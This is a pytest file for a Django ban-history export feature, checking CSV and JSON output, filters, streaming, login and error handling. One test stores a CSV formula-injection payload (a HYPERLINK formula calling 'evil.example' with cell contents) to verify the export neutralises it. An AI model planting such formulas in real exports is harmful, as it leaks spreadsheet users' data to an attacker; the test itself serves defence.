"""Export of the ban history: CSV and JSON of the current filters, streamed."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from django.db.models import QuerySet
from django.http import StreamingHttpResponse

from jails.history.export import FIELDS, neutralise
from jails.models import BanRecord

T0 = datetime(2025, 3, 10, 12, 0, 0, tzinfo=UTC)


def _rec(ip: str, *, at: datetime = T0, jail: str = "sshd", **fields: object) -> BanRecord:
    values: dict[str, object] = {"bantime": 600, "bancount": 1, "failures": 3, **fields}
    return BanRecord.objects.create(ip=ip, jail=jail, banned_at=at, **values)


def _export(client, query: str = "") -> tuple[StreamingHttpResponse, str]:  # type: ignore[no-untyped-def]
    response = client.get(f"/history/export/{query}")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    return response, body


def _csv(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def records(db) -> list[BanRecord]:  # type: ignore[no-untyped-def]
    return [
        _rec(
            "203.0.113.7",
            at=T0,
            country_code="DE",
            asn=64500,
            matches="Mar 10 12:00:01 host sshd[1]: Failed password for root\nsecond line",
        ),
        _rec(
            "198.51.100.4",
            at=T0 + timedelta(hours=1),
            jail="manual",
            origin="manual",
            bantime=-1,
            failures=0,
            unbanned_at=T0 + timedelta(hours=2),
            unbanned_by="operator",
        ),
        _rec("2001:db8::5", at=T0 + timedelta(hours=2), jail="nginx", bancount=4),
    ]


def test_csv_has_a_header_and_a_row_per_ban_newest_first(admin_client, records):
    response, body = _export(admin_client, "?format=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.splitlines()[0] == ",".join(FIELDS)
    rows = _csv(body)
    assert [r["ip"] for r in rows] == ["2001:db8::5", "198.51.100.4", "203.0.113.7"]
    old = rows[2]
    assert old["banned_at"] == "2025-03-10T12:00:00+00:00"
    assert old["jail"] == "sshd" and old["origin"] == "detected"
    assert old["country_code"] == "DE" and old["asn"] == "64500"
    assert old["bantime"] == "600" and old["bancount"] == "1" and old["failures"] == "3"
    assert old["unbanned_at"] == "" and old["unbanned_by"] == ""
    assert old["matches"] == "Mar 10 12:00:01 host sshd[1]: Failed password for root\nsecond line"
    manual = rows[1]
    assert manual["bantime"] == "-1"  # a number, not neutralised text
    assert manual["unbanned_at"] == "2025-03-10T14:00:00+00:00"
    assert manual["unbanned_by"] == "operator"


def test_csv_is_the_default_format(admin_client, records):
    response, body = _export(admin_client)
    assert response["Content-Type"].startswith("text/csv")
    assert len(_csv(body)) == 3


def test_it_is_an_attachment_that_is_not_cached(admin_client, records):
    response, _ = _export(admin_client, "?format=json")
    assert response["Content-Disposition"].startswith('attachment; filename="bangui-history-')
    assert response["Content-Disposition"].endswith('.json"')
    assert response["Cache-Control"] == "no-store"


def test_json_is_one_array_of_objects(admin_client, records):
    response, body = _export(admin_client, "?format=json")
    assert response["Content-Type"] == "application/json"
    items = json.loads(body)
    assert [i["ip"] for i in items] == ["2001:db8::5", "198.51.100.4", "203.0.113.7"]
    assert items[2] == {
        "banned_at": "2025-03-10T12:00:00+00:00",
        "ip": "203.0.113.7",
        "jail": "sshd",
        "origin": "detected",
        "country_code": "DE",
        "asn": 64500,
        "bantime": 600,
        "bancount": 1,
        "failures": 3,
        "unbanned_at": None,
        "unbanned_by": "",
        "matches": ["Mar 10 12:00:01 host sshd[1]: Failed password for root", "second line"],
    }
    assert items[1]["unbanned_at"] == "2025-03-10T14:00:00+00:00"
    assert items[0]["matches"] == []


def test_an_empty_export_is_still_valid(admin_client, db):
    assert json.loads(_export(admin_client, "?format=json")[1]) == []
    assert _csv(_export(admin_client, "?format=csv")[1]) == []


def test_it_exports_only_the_current_filters_in_the_current_order(admin_client, records):
    _, body = _export(admin_client, "?format=csv&ip=203.0.113.0/24")
    assert [r["ip"] for r in _csv(body)] == ["203.0.113.7"]
    _, body = _export(admin_client, "?format=json&origin=manual")
    assert [i["ip"] for i in json.loads(body)] == ["198.51.100.4"]
    _, body = _export(admin_client, "?format=csv&sort=ip&page=7")
    assert [r["ip"] for r in _csv(body)] == ["198.51.100.4", "2001:db8::5", "203.0.113.7"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_neutralises_spreadsheet_formulas(admin_client, db, start):
    payload = f'{start}HYPERLINK("http://evil.example/"&A1)'
    _rec("203.0.113.9", matches=payload + "\nplain line", unbanned_by=payload)
    row = _csv(_export(admin_client, "?format=csv")[1])[0]
    assert row["matches"] == "'" + payload + "\nplain line"
    assert row["unbanned_by"] == "'" + payload
    # JSON is data, not a spreadsheet: it keeps the text as it was.
    item = json.loads(_export(admin_client, "?format=json")[1])[0]
    assert item["unbanned_by"] == payload


def test_neutralise_leaves_harmless_text_alone():
    assert neutralise("203.0.113.7") == "203.0.113.7"
    assert neutralise("sshd") == "sshd"
    assert neutralise("") == ""
    assert neutralise("-1") == "'-1"


def test_it_streams_rows_from_a_chunked_iterator(admin_client, db, monkeypatch):
    BanRecord.objects.bulk_create(
        BanRecord(
            ip=f"10.0.{i // 250}.{i % 250}",
            jail="sshd",
            banned_at=T0 + timedelta(seconds=i),
            bantime=600,
        )
        for i in range(2500)
    )
    chunk_sizes: list[int | None] = []
    real = QuerySet.iterator

    def spy(self, chunk_size=None):  # type: ignore[no-untyped-def]
        chunk_sizes.append(chunk_size)
        return real(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    response = admin_client.get("/history/export/?format=csv")
    assert response.streaming
    assert chunk_sizes == [2000]
    chunks = list(response.streaming_content)
    # 500 lines a piece (header + 2500 rows): sent as they come, never gathered up.
    assert [c.count(b"\r\n") for c in chunks] == [500, 500, 500, 500, 500, 1]
    assert len(_csv(b"".join(chunks).decode())) == 2500


def test_an_unknown_format_is_a_400(admin_client, records):
    response = admin_client.get("/history/export/?format=xlsx")
    assert response.status_code == 400
    assert response.content.decode() == "Unknown export format “xlsx”; use csv or json.\n"


def test_bad_filters_export_nothing(admin_client, records):
    response = admin_client.get("/history/export/?format=csv&ip=zz&country=1")
    assert response.status_code == 400
    text = response.content.decode()
    assert text.startswith("Nothing was exported. ")
    assert "Country: “1” is not a country BanGUI knows" in text
    assert "IP or network: “zz” is not an address" in text


def test_export_needs_a_login(client, configured):
    response = client.get("/history/export/?format=csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/login/")


def test_export_refuses_post(admin_client):
    assert admin_client.post("/history/export/").status_code == 405
